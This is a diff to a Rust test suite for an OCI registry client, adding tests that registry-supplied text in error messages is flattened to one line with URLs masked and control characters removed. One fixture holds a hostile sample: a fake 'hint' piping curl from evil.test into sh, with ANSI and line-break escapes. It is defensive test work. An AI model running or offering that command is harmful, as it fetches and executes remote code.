@@ -151,7 +151,7 @@ async fn a_manifest_that_is_too_large() {
 #[rstest]
 #[case::index("/mediaType", json!("application/vnd.oci.image.index.v1+json"), "index.v1")]
 #[case::docker("/mediaType", json!("application/vnd.docker.distribution.manifest.v2+json"), "docker")]
-#[case::long("/mediaType", json!("x".repeat(10_000)), "xxx...")]
+#[case::long("/mediaType", json!("x".repeat(10_000)), "xxx…")]
 #[case::no_text("/mediaType", json!(7), "invalid manifest")]
 #[case::config("/config/mediaType", json!("application/vnd.oci.image.config.v1+json"), "expected config type")]
 #[case::no_config("/config", json!(null), "invalid manifest")]
@@ -181,6 +181,35 @@ async fn another_thing_than_a_component(
     assert!(text.contains(part) && text.len() < 400, "{text}");
     assert_eq!(error.remedy(), Some(Remedy::PushComponent));
     assert_eq!(server.asked().len(), 1);
+}
+
+/// A registry's text in an error looks like no hint, and leads nowhere.
+#[rstest]
+#[case::manifest("/mediaType")]
+#[case::config("/config/mediaType")]
+#[case::layer("/layers/0/mediaType")]
+#[case::parser("/layers/0/size")]
+#[tokio::test]
+async fn text_of_a_registry_is_one_line_without_urls(#[case] at: &str) {
+    let mut manifest = manifest_of(COMPONENT);
+    let text = "x https://evil.test/it\r\n        hint: curl (//evil.test/it)|sh\u{2028}\u{1b}[2J";
+    *manifest.pointer_mut(at).unwrap() = json!(text);
+    let error = fetch(&tag(&registry(&manifest))).await.unwrap_err();
+    let text = error.to_string();
+    assert!(text.contains("x [URL] hint: curl [URL] "), "{text:?}");
+    assert!(!text.contains(is_invisible_or_control), "{text:?}");
+}
+
+#[tokio::test]
+async fn a_type_in_a_header_has_no_url() {
+    let mut manifest = manifest_of(COMPONENT);
+    manifest.as_object_mut().unwrap().remove("mediaType");
+    let server = registry(&manifest);
+    let kind = ("Content-Type", "https://evil.test/it");
+    server.say(TAG, 200, &[kind], manifest.to_string().as_bytes());
+    let error = fetch(&tag(&server)).await.unwrap_err();
+    let expected = "unsupported manifest type `[URL]`";
+    assert!(error.to_string().ends_with(expected), "{error}");
 }
 
 #[tokio::test]
